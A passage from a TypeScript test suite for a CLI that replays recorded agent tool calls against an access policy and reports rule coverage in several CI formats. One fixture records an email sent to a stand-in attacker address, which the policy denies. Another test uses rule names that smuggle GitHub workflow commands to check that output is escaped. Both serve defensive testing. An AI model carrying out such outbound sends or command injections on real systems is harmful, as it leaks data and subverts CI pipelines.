    expect(failing.code).toBe(1);
    expect(failing.stderr).toContain("rule coverage 50% is below --min-coverage 100%");
    expect(failing.stdout).toContain("never decided a line: mail-stays-inside, fetch-needs-approval");
    const passing = await test(DEMO_POLICY, "--replay", FULL, "--min-coverage", "100");
    expect(passing.code).toBe(0);
    expect((await test(DEMO_POLICY, "--replay", partial, "--min-coverage", "50")).code).toBe(0);
  });

  it("a run that fails as a whole (too little coverage, no test cases, --bail) says so in every reporter, not only on stderr", async () => {
    const partial = write("partial-run.jsonl", lines(readFileSync(join(ROOT, FULL), "utf8")).slice(0, 2).join("\n") + "\n");
    const run = (reporter: string, ...extra: string[]): Promise<CliResult> => test(DEMO_POLICY, "--replay", partial, "--reporter", reporter, ...extra);
    const message = "rule coverage 50% is below --min-coverage 100%";
    const json = await run("json", "--min-coverage", "100");
    expect(json.code).toBe(1);
    expect(json.stderr).toContain(message);
    expect(JSON.parse(json.stdout)).toMatchObject({ ok: false, reason: message, bailed: false, passed: 2, failed: 0 });
    const junit = await run("junit", "--min-coverage", "100");
    const doc = new XMLParser({ ignoreAttributes: false, attributeNamePrefix: "@" }).parse(junit.stdout) as { testsuites: Record<string, string> & { testsuite: (Record<string, string> & { testcase: Record<string, Record<string, string>> })[] } };
    expect([doc.testsuites["@tests"], doc.testsuites["@failures"]]).toEqual(["3", "1"]);
    expect(doc.testsuites.testsuite[1]!.testcase).toMatchObject({ "@name": "coverage", failure: { "@message": message } });
    const tap = lines((await run("tap", "--min-coverage", "100")).stdout);
    expect(tap[1]).toBe("1..3");
    expect(tap).toContain("not ok 3 - coverage");
    expect((await run("github", "--min-coverage", "100")).stdout).toContain(`::error title=policyc test%3A coverage::${message.replace(/%/g, "%25")}\n`);
    const empty = write("no-cases-run.jsonl", STALE_FREE_LINE + "\n");
    const noCases = await test(DEMO_POLICY, "--replay", empty, "--reporter", "junit");
    expect(noCases.code).toBe(1);
    expect(noCases.stdout).toContain('<testcase classname="policyc test" name="no test cases">');
    expect((await test(DEMO_POLICY, "--replay", empty, "--reporter", "tap")).stdout).toContain("not ok 1 - no test cases");
    const failing = write("bail-run.jsonl", lines(readFileSync(join(ROOT, FULL), "utf8")).map((l, i) => (i === 0 ? l.replace('"allow"', '"deny"') : l)).join("\n") + "\n");
    const bailed = await test(DEMO_POLICY, "--replay", failing, "--bail", "--json");
    expect(JSON.parse(bailed.stdout)).toMatchObject({ ok: false, reason: "1 case failed", bailed: true });
    expect(lines((await test(DEMO_POLICY, "--replay", failing, "--bail", "--reporter", "tap")).stdout).at(-1)).toMatch(/^Bail out! stopped at the first failure/);
  });

  it("coverage below --min-coverage is reported also when cases failed, in every reporter and on stderr (audit s16 F4)", async () => {
    const failingPartial = write("failing-partial.jsonl", lines(readFileSync(join(ROOT, FULL), "utf8")).slice(0, 2).map((l, i) => (i === 0 ? l.replace('"allow"', '"deny"') : l)).join("\n") + "\n");
    const run = (reporter: string): Promise<CliResult> => test(DEMO_POLICY, "--replay", failingPartial, "--min-coverage", "100", "--reporter", reporter);
    // 1 of 4: the failed case covers nothing.
    const message = "rule coverage 25% is below --min-coverage 100%";
    const pretty = await run("pretty");
    expect(pretty.code).toBe(1);
    expect(pretty.stderr).toContain(`policyc test: ${message}`);
    const json = await run("json");
    expect(JSON.parse(json.stdout)).toMatchObject({ ok: false, reason: `1 case failed; ${message}`, failed: 1 });
    expect(json.stderr).toContain(message);
    const junit = await run("junit");
    expect(junit.stdout).toContain(`<testcase classname="policyc test" name="coverage">\n      <failure message="${message}" type="coverage"/>`);
    const tap = lines((await run("tap")).stdout);
    expect(tap[1]).toBe("1..3");
    expect(tap).toContain("not ok 3 - coverage");
    expect((await run("github")).stdout).toContain(`::error title=policyc test%3A coverage::${message.replace(/%/g, "%25")}\n`);
  });

  it("coverage of many rules stays readable: the total names 10 rules that decided no line and counts the rest, GitHub gets 10 warnings (audit s16 F5)", async () => {
    const tools = Array.from({ length: 1_200 }, (_, i) => `tool t.n${i} {}\n`).join("");
    const policy = write("many-rules.policy", `${tools}policy p {\n${Array.from({ length: 1_200 }, (_, i) => `  allow t.n${i}\n`).join("")}}\n`);
    const recording = write("many-rules.jsonl", JSON.stringify({ time: "2026-01-05T10:00:00Z", session: "s", tool: "t.n0", args: {}, decision: "allow" }) + "\n");
    const named = Array.from({ length: 10 }, (_, i) => `p/${i + 2}`).join(", ");
    const total = `0% of 1,200 rules covered; never decided a line: ${named} and 1,189 more (the table marks each; \`--json\` lists them in \`coverage.uncovered\`)`;
    const pretty = await test(policy, "--replay", recording, "--coverage");
    expect(pretty.code).toBe(0);
    expect(pretty.stdout).toContain(`  ${total}\n`);
    const github = (await test(policy, "--replay", recording, "--coverage", "--reporter", "github")).stdout;
    const warnings = github.split("\n").filter((line) => line.startsWith("::warning"));
    expect(warnings).toHaveLength(10);
    expect(warnings[8]).toContain("rule p/10 decided no recorded line");
    expect(warnings[9]).toBe("::warning title=policyc test%3A coverage::1,190 more rules no test case covers, not annotated (GitHub shows 10 warnings a step): the coverage table in the log marks each");
    expect(github.split("\n").every((line) => line.length < 1_000)).toBe(true);
  });

  it("--coverage shows in the CI reporters too: TAP comments, a JUnit suite of properties, GitHub annotations at the rules", async () => {
    const run = async (reporter: string): Promise<string> => {
      const result = await test(DEMO_POLICY, "--replay", DEMO, "--coverage", "--reporter", reporter);
      expect(result.code, reporter).toBe(2); // DEMO has a failing case and a malformed line
      return result.stdout;
    };
    const table = ["kb-for-support             1", "mail-for-support           0  never decided a line", "mail-stays-inside          1", "fetch-needs-approval       0  never decided a line", "50% of 4 rules covered; never decided a line: mail-for-support, fetch-needs-approval"];
    const tap = lines(await run("tap"));
    const from = tap.indexOf("# coverage");
    expect(tap.slice(from, from + 6)).toEqual(["# coverage", ...table.map((line) => `#   ${line}`)]);
    expect(tap.at(-1)).toBe("# 2 passed, 1 failed");
    const junit = await run("junit");
    expect(XMLValidator.validate(junit)).toBe(true);
    const doc = new XMLParser({ ignoreAttributes: false, attributeNamePrefix: "@" }).parse(junit) as { testsuites: Record<string, string> & { testsuite: { "@name": string; "@tests": string; properties?: { property: { "@name": string; "@value": string }[] }; "system-out"?: string }[] } };
    const suite = doc.testsuites.testsuite.find((s) => s["@name"] === "policyc test coverage")!;
    expect(suite["@tests"]).toBe("0");
    // (After the properties that name the policy set, which every suite has.)
    expect(suite.properties!.property.filter((p) => p["@name"].startsWith("coverage.")).map((p) => [p["@name"], p["@value"]])).toEqual([["coverage.percent", "50"], ["coverage.rule.kb-for-support", "1"], ["coverage.rule.mail-for-support", "0"], ["coverage.rule.mail-stays-inside", "1"], ["coverage.rule.fetch-needs-approval", "0"]]);
    expect(suite["system-out"]).toBe(table.join("\n"));
    expect(doc.testsuites["@tests"]).toBe("4"); // three cases and the error: coverage counts as no test
    const github = await run("github");
    expect(github).toContain(`coverage\n${table.map((line) => `  | ${line}`).join("\n")}\n`);
    const policyLines = readFileSync(join(ROOT, DEMO_POLICY), "utf8").split("\n");
    const lineOf = (id: string): number => policyLines.findIndex((l) => l.includes(`@name("${id}")`)) + 2; // the rule starts below its annotation
    for (const id of ["mail-for-support", "fetch-needs-approval"]) expect(github).toContain(`::warning file=${DEMO_POLICY},line=${lineOf(id)},title=policyc test%3A coverage::rule ${id} decided no recorded line\n`);
    expect(github).not.toContain("rule kb-for-support decided no recorded line");
    expect(github).toContain("::notice title=policyc test%3A coverage::50%25 of 4 rules covered; never decided a line: mail-for-support, fetch-needs-approval\n");
    // Without --coverage, none of it.
    for (const reporter of ["tap", "junit", "github"]) expect((await test(DEMO_POLICY, "--replay", DEMO, "--reporter", reporter)).stdout, reporter).not.toMatch(/coverage/);
  });

  it("github: a rule id cannot make a coverage row a workflow command", async () => {
    const policy = write("gh-ids/p.policy", 'tool t { risk low args { } }\npolicy p {\n  @name("::stop-commands::pause") allow t\n  @name("x ##[error]y") allow t\n}\n');
    const recording = write("gh-ids/r.jsonl", '{"session":"s","tool":"t","args":{},"decision":"allow"}\n');
    const github = (await test(policy, "--replay", recording, "--coverage", "--reporter", "github")).stdout;
    // The runner reads a line as a command when it starts with `::` after spaces, and `##[` anywhere.
    for (const line of github.split("\n")) {
      if (line.trimStart().startsWith("::")) expect(line, line).toMatch(/^::(notice|warning|error) /);
      expect(line, line).not.toContain("##[");
    }
    expect(github).toContain("  | \\u003a:stop-commands::pause");
    expect(github).toContain("  | x #\\u0023[error]y");
  });

  it("--min-coverage rejects what is not a percentage", async () => {
    for (const value of ["abc", "101", "-5"]) {
      const result = await test(DEMO_POLICY, "--replay", FULL, "--min-coverage", value);
      expect(result.code, value).toBe(2);
      expectNoStackTrace(result);
    }
  });

  describe("counts only the lines a test asserts (audit s22 f4)", () => {
    // Lines 1–2 expect their decisions; lines 3–4 are decided by mail-stays-inside and
    // fetch-needs-approval but expect nothing, so no test asserts what those rules do.
    const unasserted = (): string => write("unasserted.jsonl", lines(readFileSync(join(ROOT, FULL), "utf8")).slice(0, 4).map((l, i) => (i < 2 ? l : l.replace(/,"decision".*\}$/, "}"))).join("\n") + "\n");
    const UNASSERTED_TABLE = ["kb-for-support             1", "mail-for-support           1", "mail-stays-inside          0  decided only lines without expectations (1)", "fetch-needs-approval       0  decided only lines without expectations (1)", "50% of 4 rules covered; decided only lines without expectations: mail-stays-inside, fetch-needs-approval"];

    it("a rule that decided only lines without an expected decision is not covered, and is reported apart", async () => {
      const recording = unasserted();
      const pretty = await test(DEMO_POLICY, "--replay", recording, "--coverage");
      expect(pretty.code, pretty.stdout).toBe(0);
      expect(pretty.stdout).toContain(`coverage\n${UNASSERTED_TABLE.map((line) => `  ${line}`).join("\n")}\n`);
      const gate = await test(DEMO_POLICY, "--replay", recording, "--min-coverage", "100");
      expect(gate.code).toBe(1);
      expect(gate.stderr).toContain("rule coverage 50% is below --min-coverage 100%");
      const json = JSON.parse((await test(DEMO_POLICY, "--replay", recording, "--coverage", "--json")).stdout) as { coverage: unknown };
      expect(json.coverage).toEqual({
        rules: [
          { id: "kb-for-support", location: `${DEMO_POLICY}:21:3`, lines: 1, unassertedLines: 0 },
          { id: "mail-for-support", location: `${DEMO_POLICY}:25:3`, lines: 1, unassertedLines: 0 },
          { id: "mail-stays-inside", location: `${DEMO_POLICY}:29:3`, lines: 0, unassertedLines: 1 },
          { id: "fetch-needs-approval", location: `${DEMO_POLICY}:34:3`, lines: 0, unassertedLines: 1 },
        ],
        uncovered: ["mail-stays-inside", "fetch-needs-approval"],
        unassertedOnly: ["mail-stays-inside", "fetch-needs-approval"],
        percent: 50,
        noRules: false,
        controls: [],
        selection: false,
      });
      const tap = lines((await test(DEMO_POLICY, "--replay", recording, "--coverage", "--reporter", "tap")).stdout);
      expect(tap).toContain(`#   ${UNASSERTED_TABLE[2]}`);
      const junit = (await test(DEMO_POLICY, "--replay", recording, "--coverage", "--reporter", "junit")).stdout;
      expect(junit).toContain('<property name="coverage.rule.mail-stays-inside" value="0"/>');
      expect(junit).toContain('<property name="coverage.unassertedOnly.mail-stays-inside" value="1"/>');
      expect(junit).not.toContain("coverage.unassertedOnly.kb-for-support");
      const github = (await test(DEMO_POLICY, "--replay", recording, "--coverage", "--reporter", "github")).stdout;
      expect(github).toMatch(/^::warning file=[^,]*demo\.policy,line=29,title=policyc test%3A coverage::rule mail-stays-inside decided only lines without expectations: no test case asserts it$/m);
      expect(github).toContain(`::notice title=policyc test%3A coverage::${UNASSERTED_TABLE[4]!.replace("%", "%25")}\n`);
    });

    it("--grep: a rule that decided only lines the selection leaves out is not covered", async () => {
      const grep = JSON.parse((await test(DEMO_POLICY, "--replay", FULL, "--grep", "kb", "--coverage", "--json")).stdout) as { passed: number; coverage: { uncovered: string[]; unassertedOnly: string[]; percent: number } };
      expect(grep.passed).toBe(2);
      expect(grep.coverage).toMatchObject({ uncovered: ["mail-for-support", "mail-stays-inside", "fetch-needs-approval"], unassertedOnly: [], percent: 25 });
      expect((await test(DEMO_POLICY, "--replay", FULL, "--grep", "kb", "--min-coverage", "100")).code).toBe(1);
      // Under a selection the rules it left out may well have decided lines: said of the selected ones only.
      const pretty = (await test(DEMO_POLICY, "--replay", FULL, "--grep", "kb", "--coverage")).stdout;
      expect(pretty).toContain("  mail-for-support           0  decided no selected line\n");
      expect(pretty).toContain("  25% of 4 rules covered; decided no selected line: mail-for-support, mail-stays-inside, fetch-needs-approval\n");
      expect(pretty).not.toContain("never decided a line");
      const github = (await test(DEMO_POLICY, "--replay", FULL, "--grep", "kb", "--coverage", "--reporter", "github")).stdout;
      expect(github).toMatch(/^::warning file=[^,]*demo\.policy,line=25,title=policyc test%3A coverage::rule mail-for-support decided no selected line$/m);
      expect(github).not.toContain("decided no recorded line");
    });

    it("--session: a rule that decided only other sessions' lines is not covered", async () => {
      const session = JSON.parse((await test(DEMO_POLICY, "--replay", FULL, "--session", "a", "--coverage", "--json")).stdout) as { coverage: { uncovered: string[]; percent: number } };
      expect(session.coverage).toMatchObject({ uncovered: ["mail-stays-inside", "fetch-needs-approval"], percent: 50 });
      expect((await test(DEMO_POLICY, "--replay", FULL, "--session", "a", "--coverage")).stdout).toContain("  fetch-needs-approval       0  decided no selected line\n");
    });

    it("a run on several threads counts the same", () => {
      // The real binary: only the built worker script replays on other threads (in-process runs stay on one).
      // 50 sessions, so every thread's share holds lines of both kinds and its counts must be merged.
      const full = lines(readFileSync(join(ROOT, FULL), "utf8"));
      const sessions = Array.from({ length: 50 }, (_, i) => [full[0]!.replace('"session":"a"', `"session":"s${i}"`), full[2]!.replace('"session":"b"', `"session":"s${i}"`).replace(/,"decision".*\}$/, "}")]);
      const recording = write("threads.jsonl", sessions.flat().join("\n") + "\n");
      const one = bin(["test", DEMO_POLICY, "--replay", recording, "--coverage", "--json", "--jobs", "1"]);
      const many = bin(["test", DEMO_POLICY, "--replay", recording, "--coverage", "--json", "--jobs", "4"]);
      expect(one.code, one.stderr).toBe(0);
      const coverage = (result: CliResult): unknown => (JSON.parse(result.stdout) as { coverage: unknown }).coverage;
      expect(coverage(one)).toMatchObject({ rules: [{ id: "kb-for-support", lines: 50 }, { id: "mail-for-support", lines: 0 }, { id: "mail-stays-inside", lines: 0, unassertedLines: 50 }, { id: "fetch-needs-approval" }] });
      expect(coverage(many)).toEqual(coverage(one));
    });

    it("a rule is covered only by a case that passed: a failed line's deciding rule is asserted by no one", async () => {
      // Line 2 expects mail-stays-inside to deny; mail-for-support allows it.
      const full = lines(readFileSync(join(ROOT, FULL), "utf8"));
      const recording = write("failed-coverage.jsonl", [full[0]!, full[1]!.replace('"decision":"allow","rules":["mail-for-support"]', '"decision":"deny","rules":["mail-stays-inside"]')].join("\n") + "\n");
      const json = await test(DEMO_POLICY, "--replay", recording, "--coverage", "--json");
      expect(json.code).toBe(1);
      const report = JSON.parse(json.stdout) as { coverage: { rules: { id: string; lines: number; unassertedLines: number }[]; uncovered: string[]; percent: number } };
      expect(report.coverage.rules.slice(0, 3)).toMatchObject([{ id: "kb-for-support", lines: 1 }, { id: "mail-for-support", lines: 0, unassertedLines: 0 }, { id: "mail-stays-inside", lines: 0, unassertedLines: 0 }]);
      expect(report.coverage.percent).toBe(25);
      expect((await test(DEMO_POLICY, "--replay", recording, "--min-coverage", "50")).stderr).toContain("rule coverage 25% is below --min-coverage 50%");
    });

    it("--update: a line rewritten this run, failed or expecting nothing, is not yet asserted", async () => {
      const full = lines(readFileSync(join(ROOT, FULL), "utf8"));
      const failed = full[1]!.replace('"decision":"allow","rules":["mail-for-support"]', '"decision":"deny","rules":["mail-stays-inside"]');
      const unexpected = full[3]!.replace(/,"decision".*\}$/, "}");
      const recording = write("update-coverage.jsonl", [full[0]!, failed, unexpected].join("\n") + "\n");
      const run = await test(DEMO_POLICY, "--replay", recording, "--coverage", "--json", "--update");
      expect(run.code, run.stderr).toBe(0);
      const report = JSON.parse(run.stdout) as { coverage: { rules: { id: string; lines: number; unassertedLines: number }[]; unassertedOnly: string[] } };
      expect(report.coverage.rules).toMatchObject([{ id: "kb-for-support", lines: 1, unassertedLines: 0 }, { id: "mail-for-support", lines: 0, unassertedLines: 1 }, { id: "mail-stays-inside", lines: 0, unassertedLines: 0 }, { id: "fetch-needs-approval", lines: 0, unassertedLines: 1 }]);
      expect(report.coverage.unassertedOnly).toEqual(["mail-for-support", "fetch-needs-approval"]);
      // Run again, the rewritten lines pass and cover their rules.
      const again = JSON.parse((await test(DEMO_POLICY, "--replay", recording, "--coverage", "--json")).stdout) as { coverage: { rules: { lines: number }[] } };
      expect(again.coverage.rules.map((r) => r.lines)).toEqual([1, 1, 0, 1]);
    });
  });

  it("groups coverage by control when rules name `@controls`: each control's rules, how many a test case covers, and which not (audit s22 f4)", async () => {
    const policy = write("controls.policy", 'tool a.x {}\ntool b.x {}\ntool c.x {}\ntool d.x {}\npolicy p {\n  @name("a") @controls("ASI03", "L3") allow a.x\n  @name("b") @controls("ASI03", "ASI03") allow b.x\n  @name("c") @controls("L3") allow c.x\n  @name("d") allow d.x\n}\n');
    const recording = write("controls.jsonl", ["a", "c", "d"].map((t, i) => JSON.stringify({ time: `2026-01-05T10:00:0${i}Z`, session: "s", tool: `${t}.x`, args: {}, decision: "allow" })).join("\n") + "\n");
    const pretty = await test(policy, "--replay", recording, "--coverage");
    expect(pretty.code, pretty.stdout).toBe(0);
    expect(pretty.stdout).toContain("  75% of 4 rules covered; never decided a line: b\n  by control\n    ASI03  1 of 2 rules covered; not covered: b\n    L3     2 of 2 rules covered\n    1 rule names no control\n");
    const json = JSON.parse((await test(policy, "--replay", recording, "--coverage", "--json")).stdout) as { coverage: { controls: unknown } };
    expect(json.coverage.controls).toEqual([
      { id: "ASI03", rules: ["a", "b"], uncovered: ["b"] },
      { id: "L3", rules: ["a", "c"], uncovered: [] },
    ]);
    const junit = (await test(policy, "--replay", recording, "--coverage", "--reporter", "junit")).stdout;
    expect(junit).toContain('<property name="coverage.control.ASI03" value="1/2"/>');
    expect(lines((await test(policy, "--replay", recording, "--coverage", "--reporter", "tap")).stdout)).toContain("#     ASI03  1 of 2 rules covered; not covered: b");
    // A set whose rules name no control shows no grouping.
    expect((await test(DEMO_POLICY, "--replay", FULL, "--coverage")).stdout).not.toContain("by control");
  });

  it("a policy set with no rules has no coverage to speak of: said so, and --min-coverage fails whatever its figure", async () => {
    const policy = write("no-rules.policy", "tool a.x {}\npolicy p {\n}\n");
    const recording = write("no-rules.jsonl", '{"session":"s","tool":"a.x","args":{},"decision":"deny","rules":[]}\n');
    const pretty = await test(policy, "--replay", recording, "--coverage");
    expect(pretty.code).toBe(0);
    expect(pretty.stdout).toContain("coverage\n  no rules: the policy set has none to cover\n");
    const json = JSON.parse((await test(policy, "--replay", recording, "--coverage", "--json")).stdout) as { coverage: unknown };
    expect(json.coverage).toEqual({ rules: [], uncovered: [], unassertedOnly: [], percent: 0, noRules: true, controls: [], selection: false });
    const junit = (await test(policy, "--replay", recording, "--coverage", "--reporter", "junit")).stdout;
    expect(junit).toContain('<property name="coverage.percent" value="0"/>\n      <property name="coverage.noRules" value="true"/>\n');
    // A set with rules says nothing of it.
    expect((await test(DEMO_POLICY, "--replay", FULL, "--coverage", "--reporter", "junit")).stdout).not.toContain("coverage.noRules");
    for (const min of ["100", "0"]) {
      const gate = await test(policy, "--replay", recording, "--min-coverage", min);
      expect(gate.code, min).toBe(1);
      expect(gate.stderr).toContain(`policyc test: the policy set has no rules, so --min-coverage ${min}% has nothing to measure`);
    }
  });
});

interface JsonCase {
  line: number;
  session: string;
  tool: string;
  ok: boolean;
}
interface JsonReport {
  passed: number;
  failed: number;
  lines: number;
  cases: JsonCase[];
  failures: JsonCase[];
}

describe("policyc test: selection", () => {
  async function json(...args: string[]): Promise<JsonReport> {
    const result = await test(DEMO_POLICY, ...args, "--json");
    return JSON.parse(result.stdout) as JsonReport;
  }

  it("--session ID replays only that session", async () => {
    const all = await json("--replay", FULL);
    const report = await json("--replay", FULL, "--session", "b");
    expect(report.cases.map((c) => c.line)).toEqual([3, 4]);
    expect(report.cases.every((c) => c.session === "b")).toBe(true);
    expect(report.lines).toBe(2);
    expect(report.passed).toBe(2);
    expect(all.passed).toBe(5);
    const pretty = await test(DEMO_POLICY, "--replay", FULL, "--session", "b");
    expect(pretty.code).toBe(0);
    expect(pretty.stdout).toContain("2 lines replayed from 1 file\n2 passed, 0 failed\n");
  });

  it("--session with no such session says so (a typo, not a recording without expectations)", async () => {
    const result = await test(DEMO_POLICY, "--replay", FULL, "--session", "nobody");
    expect(result.code).toBe(1);
    expect(result.stderr).toBe("policyc test: no line of the recordings has session `nobody`\n");
    expect((await test(DEMO_POLICY, "--replay", FULL, "--session", "nobody", "--allow-empty")).code).toBe(1);
  });

  it("--grep TEXT counts only cases whose tool or rules contain it", async () => {
    const byTool = await json("--replay", FULL, "--grep", "email");
    expect(byTool.cases.map((c) => c.tool)).toEqual(["email.send", "email.send"]);
    expect(byTool.passed).toBe(2);
    const byRule = await json("--replay", FULL, "--grep", "stays-inside");
    expect(byRule.cases.map((c) => c.line)).toEqual([3]);
    const pretty = await test(DEMO_POLICY, "--replay", FULL, "--grep", "fetch");
    expect(lastLine(pretty.stdout)).toBe("1 passed, 0 failed");
    // A --grep that selects nothing is a typo: said as such, not as a recording without expectations.
    const none = await test(DEMO_POLICY, "--replay", FULL, "--grep", "zzz");
    expect(none.code).toBe(1);
    expect(none.stderr).toBe("policyc test: no case matches --grep `zzz`: no line with an expected decision has a tool or rule id containing it\n");
  });

  it("--bail stops at the first failure", async () => {
    // Lines 1 and 3 of the full recording expect the wrong thing.
    const text = lines(readFileSync(join(ROOT, FULL), "utf8"))
      .map((l, i) => (i === 0 ? l.replace('"decision":"allow"', '"decision":"ask"') : i === 2 ? l.replace('"decision":"deny"', '"decision":"allow"') : l))
      .join("\n");
    const file = write("bail.jsonl", text);
    const all = await test(DEMO_POLICY, "--replay", file);
    expect(all.code).toBe(1);
    expect(lastLine(all.stdout)).toBe("3 passed, 2 failed");
    const bailed = await test(DEMO_POLICY, "--replay", file, "--bail");
    expect(bailed.code).toBe(1);
    expect(lastLine(bailed.stdout)).toBe("0 passed, 1 failed");
    expect(bailed.stdout).toContain("stopped at the first failure (--bail)");
    expect(bailed.stdout).toContain("line 1:");
    expect(bailed.stdout).not.toContain("line 3:");
    // --bail also stops before later files.
    const other = write("bail-b.jsonl", readFileSync(join(ROOT, FULL), "utf8"));
    const two = await json("--replay", file, other, "--bail");
    expect(two.cases).toHaveLength(1);
    expect(lines((await test(DEMO_POLICY, "--replay", file, other, "--bail")).stdout).at(-2)).toBe("1 line replayed from 1 of 2 files");
    expect(lines((await test(DEMO_POLICY, "--replay", other, file)).stdout).at(-2)).toBe("12 lines replayed from 2 files");
  });

  it("several files, folders and quoted globs are replayed in order", async () => {
    write("globbed/b.jsonl", readFileSync(join(ROOT, FULL), "utf8"));
    write("globbed/a.jsonl", lines(readFileSync(join(ROOT, FULL), "utf8")).slice(0, 1).join("\n"));
    write("globbed/notes.txt", "not a recording");
    const glob = await cli(["test", join(ROOT, DEMO_POLICY), "--replay", "globbed/*.jsonl", "--json"], { cwd: dir });
    expect(glob.code).toBe(0);
    const report = JSON.parse(glob.stdout) as JsonReport & { files: string[] };
    expect(report.files).toEqual(["globbed/a.jsonl", "globbed/b.jsonl"]);
    expect(report.passed).toBe(6);
    const folder = JSON.parse((await cli(["test", join(ROOT, DEMO_POLICY), "--replay", "globbed", "--json"], { cwd: dir })).stdout) as JsonReport & { files: string[] };
    expect(folder.files).toEqual([join("globbed", "a.jsonl"), join("globbed", "b.jsonl")]);
    // As a quoted glob reaches policyc from a shell: unexpanded.
    const fromRoot = await test(DEMO_POLICY, "--replay", "test/fixtures/replay/full*.jsonl");
    expect(fromRoot.code).toBe(0);
    expect(lastLine(fromRoot.stdout)).toBe("5 passed, 0 failed");
  });

  it("a quoted glob's `?` and `[…]` match as bash's do; a glob matching nothing exits 2, unless a file has that very name", async () => {
    write("days/day1.jsonl", readFileSync(join(ROOT, FULL), "utf8"));
    write("days/day2.jsonl", readFileSync(join(ROOT, FULL), "utf8"));
    write("days/day10.jsonl", readFileSync(join(ROOT, FULL), "utf8"));
    write("days/run[1].jsonl", readFileSync(join(ROOT, FULL), "utf8"));
    const files = async (pattern: string): Promise<string[]> => {
      const result = await cli(["test", join(ROOT, DEMO_POLICY), "--replay", pattern, "--json"], { cwd: dir });
      expect(result.code, result.stderr).toBe(0);
      return (JSON.parse(result.stdout) as { files: string[] }).files;
    };
    expect(await files("days/day?.jsonl")).toEqual(["days/day1.jsonl", "days/day2.jsonl"]);
    expect(await files("days/day[0-9].jsonl")).toEqual(["days/day1.jsonl", "days/day2.jsonl"]);
    expect(await files("days/day[!1]*.jsonl")).toEqual(["days/day2.jsonl"]);
    expect(await files("d*s/d*y?.jsonl")).toEqual(["days/day1.jsonl", "days/day2.jsonl"]);
    expect(await files("days/run[1].jsonl")).toEqual(["days/run[1].jsonl"]);
    const none = await cli(["test", join(ROOT, DEMO_POLICY), "--replay", "days/day[3-9].jsonl"], { cwd: dir });
    expect(none).toMatchObject({ code: 2, stdout: "" });
    expect(none.stderr).toContain("days/day[3-9].jsonl: error[PC600]: nothing matches\n");
  });
});

describe("policyc test: --update and --allow-empty", () => {
  // Keys in an unusual order and an extra field: --update must keep both.
  const STALE = [
    '{"decision":"deny","session":"u1","note":"first","time":"2026-01-05T10:00:00Z","agent":{"team":"support"},"tool":"kb.search","args":{"query":"q"}}',
    '{"session":"u1","time":"2026-01-05T10:00:01Z","agent":{"team":"support"},"tool":"email.send","args":{"to":["eve@evil.example"],"subject":"s"},"rules":["nope"],"decision":"allow","reason":"stale"}',
    "{this line is not JSON",
    "",
    '{"session":"u2","agent":{"team":"sales"},"tool":"http.get","args":{"url":"https://x.test/"}}',
    '{"session":"u2","agent":{"team":"sales"},"tool":"http.get","args":{"url":"https://x.test/"},"decision":"ask","rules":["fetch-needs-approval"],"z":1}',
  ];

  it("writes actual decisions and rules back, keeping fields, key order, line order and malformed lines", async () => {
    const file = write("update.jsonl", STALE.join("\n") + "\n");
    const result = await test(DEMO_POLICY, "--replay", file, "--update");
    expectNoStackTrace(result);
    expect(result.code).toBe(2); // the malformed line is still reported
    expect(result.stderr).toContain("updated 1 recording");
    const after = readFileSync(file, "utf8").split("\n");
    expect(after).toHaveLength(STALE.length + 1);
    expect(after[2]).toBe(STALE[2]);
    expect(after[3]).toBe("");
    const [first, second, , , fifth, sixth] = after.map((l) => (l.startsWith("{\"") ? (JSON.parse(l) as Record<string, unknown>) : null));
    expect(Object.keys(first!)).toEqual(["decision", "session", "note", "time", "agent", "tool", "args", "rules"]);
    expect(first).toMatchObject({ decision: "allow", rules: ["kb-for-support"], note: "first", args: { query: "q" } });
    expect(Object.keys(second!)).toEqual(["session", "time", "agent", "tool", "args", "rules", "decision", "reason"]);
    expect(second).toMatchObject({ decision: "deny", rules: ["mail-stays-inside"], reason: "mail stays inside acme.com" });
    // A line without expectation gets one; an already right line is unchanged.
    expect(fifth).toMatchObject({ decision: "ask", rules: ["fetch-needs-approval"] });
    expect(after[5]).toBe(STALE[5]);
    expect(sixth).toMatchObject({ z: 1 });
    expect(readdirSync(dir).filter((name) => name.includes(".policyc-"))).toEqual([]);
  });

  it("after --update the same run passes", async () => {
    const clean = STALE.filter((l) => l.startsWith("{\""));
    const file = write("update-clean.jsonl", clean.join("\n") + "\n");
    const before = await test(DEMO_POLICY, "--replay", file);
    expect(before.code).toBe(1);
    await test(DEMO_POLICY, "--replay", file, "--update");
    expect(readFileSync(file, "utf8").split("\n")).toHaveLength(clean.length + 1);
    const after = await test(DEMO_POLICY, "--replay", file);
    expect(after.code).toBe(0);
    expect(lastLine(after.stdout)).toBe(`${clean.length} passed, 0 failed`);
  });

  it("under CI (CI or GITHUB_ACTIONS set), --update warns on stderr that the job passes whatever the decisions; the exit code and the report are unchanged", async () => {
    const clean = STALE.filter((l) => l.startsWith("{\""));
    const warning = (n: number, variable: string): string => `policyc test: --update rewrote ${n} recording${n === 1 ? "" : "s"} in a CI job (${variable} is set): the rewritten files are not committed, and the run passes whatever the decisions; run --update locally and review the diff\n`;
    const run = (env: Record<string, string>): Promise<CliResult> => cli(["test", DEMO_POLICY, "--replay", write("update-ci.jsonl", clean.join("\n") + "\n"), "--update", "--reporter", "json"], { env });
    const local = await run({});
    expect(local.code).toBe(0);
    expect(local.stderr).toBe("updated 1 recording with the actual decisions; review the diff\n");
    for (const [env, variable] of [[{ CI: "true" }, "CI"], [{ GITHUB_ACTIONS: "true" }, "GITHUB_ACTIONS"], [{ CI: "1", GITHUB_ACTIONS: "true" }, "CI"]] as const) {
      const result = await run(env);
      expect(result.code, variable).toBe(0);
      expect(result.stderr, variable).toBe(`updated 1 recording with the actual decisions; review the diff\n${warning(1, variable)}`);
      expect(result.stdout, variable).toBe(local.stdout);
    }
    // CI=false (or 0, or empty) is not a CI job; a run that rewrote nothing under CI is still warned about.
    for (const value of ["false", "0", ""]) expect((await run({ CI: value })).stderr, value).not.toContain("CI job");
    const file = write("update-ci-clean.jsonl", clean.join("\n") + "\n");
    await test(DEMO_POLICY, "--replay", file, "--update");
    const nothing = await cli(["test", DEMO_POLICY, "--replay", file, "--update"], { env: { CI: "true" } });
    expect(nothing.stderr).toBe(`no recording needed a change\n${warning(0, "CI")}`);
  });

  it("--update with --bail keeps the rest of the file", async () => {
    const clean = STALE.filter((l) => l.startsWith("{\""));
    const file = write("update-bail.jsonl", clean.join("\n") + "\n");
    await test(DEMO_POLICY, "--replay", file, "--update", "--bail");
    const after = lines(readFileSync(file, "utf8"));
    expect(after).toHaveLength(clean.length);
    expect(after.slice(1)).toEqual(clean.slice(1));
  });

  it("--update with --session rewrites only that session", async () => {
